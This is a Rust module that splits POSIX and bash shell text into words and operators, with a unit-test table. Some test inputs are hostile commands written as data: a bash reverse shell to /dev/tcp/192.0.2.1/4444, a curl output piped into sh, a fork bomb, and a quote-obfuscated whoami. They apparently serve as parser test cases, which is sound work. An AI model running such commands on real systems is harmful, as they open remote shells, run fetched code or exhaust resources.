//! Token recognition of the POSIX shell (XCU 2.2 and 2.3) with bash's `$'..'`, `<<<`, `&>` and `|&`.

use super::Words;

/// Appends the words of `text`.
pub(super) fn split(text: &str, words: &mut Words) {
    let mut lexer = Lexer { text, at: 0, words, in_word: false, word_start: 0, bare: true };
    while lexer.step() {}
    lexer.finish();
}

/// Operators of more than one character, longest first; those of one are in [`Lexer::operator`].
const OPERATORS: &[&str] = &["<<<", "<<-", "&>>", "||", "|&", "&&", "&>", ";;", ">>", ">&", ">|", "<<", "<&", "<>"];

struct Lexer<'t, 'w> {
    text: &'t str,
    at: usize,
    words: &'w mut Words,
    in_word: bool,
    word_start: usize,
    /// Nothing in the word was quoted.
    bare: bool,
}

impl<'t> Lexer<'t, '_> {
    fn rest(&self) -> &'t str {
        self.text.get(self.at..).unwrap_or_default()
    }

    fn begin(&mut self) {
        if !self.in_word {
            self.in_word = true;
            self.bare = true;
            self.word_start = self.words.text.len();
        }
    }

    fn finish(&mut self) {
        if self.in_word {
            self.words.end_word();
            self.in_word = false;
        }
    }

    fn push(&mut self, c: char) {
        self.begin();
        self.words.text.push(c);
    }

    /// Reads one thing; false at the end.
    fn step(&mut self) -> bool {
        let rest = self.rest();
        let Some(c) = rest.chars().next() else { return false };
        match c {
            ' ' | '\t' | '\r' => {
                self.finish();
                self.at += 1;
            }
            '\n' | '|' | '&' | ';' | '(' | ')' | '<' | '>' => self.operator(rest, c),
            '\'' => {
                self.quote_begins(1);
                self.single();
            }
            '"' => {
                self.quote_begins(1);
                self.double();
            }
            '\\' => self.escape(),
            '$' if rest.starts_with("$'") => {
                self.quote_begins(2);
                self.ansi();
            }
            // A text to be translated: as `"..."`.
            '$' if rest.starts_with("$\"") => {
                self.quote_begins(2);
                self.double();
            }
            '$' | '`' => self.expansion(),
            _ => {
                self.push(c);
                self.at += c.len_utf8();
            }
        }
        true
    }

    fn quote_begins(&mut self, length: usize) {
        self.begin();
        self.bare = false;
        self.at += length;
    }

    fn operator(&mut self, rest: &str, c: char) {
        let operator = OPERATORS.iter().copied().find(|operator| rest.starts_with(operator));
        let word = self.words.text.get(self.word_start..).unwrap_or_default();
        let numbered = self.in_word && self.bare && matches!(c, '<' | '>') && word.bytes().all(|b| b.is_ascii_digit());
        if !numbered {
            self.finish();
        }
        match operator {
            Some(operator) => self.words.text.push_str(operator),
            None => self.words.text.push(c),
        }
        self.at += operator.map_or(1, str::len);
        self.in_word = false;
        self.words.end_word();
    }

    /// A backslash outside quotes.
    fn escape(&mut self) {
        self.at += 1;
        match self.rest().chars().next() {
            Some('\n') => self.at += 1,
            Some(c) => {
                self.push(c);
                self.bare = false;
                self.at += c.len_utf8();
            }
            None => self.push('\\'),
        }
    }

    fn single(&mut self) {
        let rest = self.rest();
        let length = rest.find('\'');
        self.words.text.push_str(rest.get(..length.unwrap_or(rest.len())).unwrap_or_default());
        self.at += length.map_or(rest.len(), |length| length + 1);
    }

    fn double(&mut self) {
        while let Some(c) = self.rest().chars().next() {
            match c {
                '"' => {
                    self.at += 1;
                    return;
                }
                '\\' => match self.rest().chars().nth(1) {
                    Some('\n') => self.at += 2,
                    Some(next @ ('$' | '`' | '"' | '\\')) => {
                        self.words.text.push(next);
                        self.at += 2;
                    }
                    _ => {
                        self.words.text.push('\\');
                        self.at += 1;
                    }
                },
                '$' | '`' => self.expansion(),
                _ => {
                    self.words.text.push(c);
                    self.at += c.len_utf8();
                }
            }
        }
    }

    /// `$(..)`, `${..}` and backticks, as written; of any other `$` only the sign.
    fn expansion(&mut self) {
        self.begin();
        let rest = self.rest();
        let length = match rest.as_bytes() {
            [b'$', b'(', ..] => closing(rest, b'(', b')'),
            [b'$', b'{', ..] => closing(rest, b'{', b'}'),
            [b'`', ..] => backticks(rest),
            _ => 1,
        };
        self.words.text.push_str(rest.get(..length).unwrap_or_default());
        self.at += length;
    }

    /// The rest of `$'..'`.
    fn ansi(&mut self) {
        let rest = self.rest().as_bytes();
        let mut bytes = Vec::new();
        let mut at = 0;
        // A NUL ends the text as bash sees it.
        let mut ended = false;
        while let Some(byte) = rest.get(at) {
            at += 1;
            match byte {
                b'\'' => break,
                b'\\' => {
                    let before = bytes.len();
                    at += ansi_escape(rest.get(at..).unwrap_or_default(), &mut bytes);
                    ended |= bytes.get(before) == Some(&0);
                }
                _ => bytes.push(*byte),
            }
            if ended {
                bytes.truncate(bytes.iter().position(|byte| *byte == 0).unwrap_or(bytes.len()));
                at += ansi_end(rest.get(at..).unwrap_or_default());
                break;
            }
        }
        self.words.text.push_str(&String::from_utf8_lossy(&bytes));
        self.at += at;
    }
}

/// Bytes up to and with the quote that closes `$'..'`.
fn ansi_end(rest: &[u8]) -> usize {
    let mut escaped = false;
    for (at, byte) in rest.iter().enumerate() {
        if *byte == b'\'' && !escaped {
            return at + 1;
        }
        escaped = *byte == b'\\' && !escaped;
    }
    rest.len()
}

/// Appends what the escape after a backslash stands for; returns its length.
fn ansi_escape(rest: &[u8], out: &mut Vec<u8>) -> usize {
    let Some(byte) = rest.first() else {
        out.push(b'\\');
        return 0;
    };
    let simple = match byte {
        b'a' => 7,
        b'b' => 8,
        b'e' | b'E' => 27,
        b'f' => 12,
        b'n' => b'\n',
        b'r' => b'\r',
        b't' => b'\t',
        b'v' => 11,
        b'\\' | b'\'' | b'"' | b'?' => *byte,
        b'0'..=b'7' => return code(rest, 0, 8, 3, out),
        b'x' => return code(rest, 1, 16, 2, out),
        b'u' => return code(rest, 1, 16, 4, out),
        b'U' => return code(rest, 1, 16, 8, out),
        b'c' if rest.get(1).is_some_and(u8::is_ascii) => {
            out.push(rest.get(1).map_or(0, |control| control & 0x1f));
            return 2;
        }
        _ => {
            out.push(b'\\');
            return 0;
        }
    };
    out.push(simple);
    1
}

/// A number of up to `most` digits after `skip` bytes: a byte, or for `\u` and `\U` a character.
fn code(rest: &[u8], skip: usize, radix: u32, most: usize, out: &mut Vec<u8>) -> usize {
    let digits = rest.iter().skip(skip).take(most).map_while(|byte| char::from(*byte).to_digit(radix));
    let (count, value) = digits.fold((0, 0u32), |(count, value), digit| (count + 1, value.wrapping_mul(radix).wrapping_add(digit)));
    if count == 0 {
        out.push(b'\\');
        return 0;
    }
    if most > 3 {
        let c = char::from_u32(value).unwrap_or(char::REPLACEMENT_CHARACTER);
        out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
    } else {
        // bash takes the low byte of `\777`.
        out.push((value & 0xff) as u8);
    }
    skip + count
}

/// Length of `$(..)` or `${..}`, quotes within it respected; all of `text` where it is not closed.
fn closing(text: &str, open: u8, close: u8) -> usize {
    let mut depth = 0usize;
    let mut quote = None;
    let mut escaped = false;
    for (at, byte) in text.bytes().enumerate() {
        if escaped {
            escaped = false;
        } else if byte == b'\\' && quote != Some(b'\'') {
            escaped = true;
        } else if quote == Some(byte) {
            quote = None;
        } else if quote.is_none() && matches!(byte, b'\'' | b'"') {
            quote = Some(byte);
        } else if quote.is_none() && byte == open {
            depth += 1;
        } else if quote.is_none() && byte == close {
            depth -= 1;
            if depth == 0 {
                return at + 1;
            }
        }
    }
    text.len()
}

/// Length up to and with the second backtick.
fn backticks(text: &str) -> usize {
    let mut escaped = false;
    for (at, byte) in text.bytes().enumerate().skip(1) {
        if byte == b'`' && !escaped {
            return at + 1;
        }
        escaped = byte == b'\\' && !escaped;
    }
    text.len()
}

#[cfg(test)]
mod tests {
    use super::super::{Platform, tests::words};

    #[test]
    #[rustfmt::skip]
    fn cases() {
        for (text, expected) in [
            ("", &[][..]),
            (" \t ", &[]),
            ("ls -la", &["ls", "-la"]),
            ("  ls  ", &["ls"]),
            ("echo 'a b' \"c d\" e\\ f", &["echo", "a b", "c d", "e f"]),
            ("echo '' \"\" x''y", &["echo", "", "", "xy"]),
            (r#"w"h"o'am'\i"#, &["whoami"]),
            (r#"echo "a\"b\\c\$d\`e\f" 'a\b'"#, &["echo", r#"a"b\c$d`e\f"#, r"a\b"]),
            ("a|b||c&&d;e&f", &["a", "|", "b", "||", "c", "&&", "d", ";", "e", "&", "f"]),
            ("a |& b ;; (c)", &["a", "|&", "b", ";;", "(", "c", ")"]),
            ("x >y 2>/dev/null 2>&1 >>z <in <<<'a b' &>all", &["x", ">", "y", "2>", "/dev/null", "2>&", "1", ">>", "z", "<", "in", "<<<", "a b", "&>", "all"]),
            ("x 2 > y a2>z '2'>q", &["x", "2", ">", "y", "a2", ">", "z", "2", ">", "q"]),
            ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", &["bash", "-i", ">&", "/dev/tcp/192.0.2.1/4444", "0>&", "1"]),
            ("a \\\n b\nc", &["a", "b", "\n", "c"]),
            ("a\\\nb", &["ab"]),
            (r"$'a\tb\x41\101\u00e9\'\\' x", &["a\tbA\u{41}é'\\", "x"]),
            (r"$'\xc3\xa9\xff' $'a\0b\'c' d", &["é\u{fffd}", "a", "d"]),
            (r"$'\q\x\cA' $'\U110000'", &["\\q\\x\u{1}", "\u{fffd}"]),
            ("$\"a b\"", &["a b"]),
            ("echo $(curl -s 'a)b' | sh) `id -u` ${x:-a b}", &["echo", "$(curl -s 'a)b' | sh)", "`id -u`", "${x:-a b}"]),
            (r#"echo "x $(echo "a b") y" z"#, &["echo", r#"x $(echo "a b") y"#, "z"]),
            ("echo $HOME $ a$", &["echo", "$HOME", "$", "a$"]),
            ("$((1+(2))) b", &["$((1+(2)))", "b"]),
            ("a # b", &["a", "#", "b"]),
            ("echo 'a b", &["echo", "a b"]),
            ("echo \"a b", &["echo", "a b"]),
            ("echo $'a b", &["echo", "a b"]),
            ("echo $(a b", &["echo", "$(a b"]),
            ("echo `a b", &["echo", "`a b"]),
            ("echo a\\", &["echo", "a\\"]),
            ("echo \"a\\", &["echo", "a\\"]),
            ("echo '", &["echo", ""]),
            ("naïve 日本;語", &["naïve", "日本", ";", "語"]),
            (r#":(){ :|:& };:"#, &[":", "(", ")", "{", ":", "|", ":", "&", "}", ";", ":"]),
        ] {
            assert_eq!(words(text, Platform::Posix), expected, "{text:?}");
        }
    }
}
